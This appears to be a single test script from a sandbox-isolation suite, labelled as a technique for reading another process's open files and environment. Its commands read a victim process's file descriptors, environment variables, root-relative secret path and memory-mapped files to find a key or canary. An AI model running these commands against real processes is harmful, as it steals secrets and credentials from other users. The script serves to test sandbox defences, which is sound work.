# technique: read another process's open files and environment through /proc/<pid>/fd, fdinfo, environ, cwd and root (a user's process outside the sandbox holding the key open)
# fast: yes
. ./.adv/world.env
p=$VICTIM_PID
cat /proc/$p/fd/0; cat /proc/$p/fd/3; tr '\0' '\n' < /proc/$p/environ
cat "/proc/$p/root$SECRET"; ls -la /proc/$p/fd/ /proc/$p/cwd/ 2>&1 | head
cat /proc/$p/task/$p/fd/0; cat /proc/$p/map_files/* 2>/dev/null | grep -a CANARY
python3 -c "import os; fd=os.open('/proc/$p/fd/3', os.O_RDONLY); print(os.read(fd, 100))"
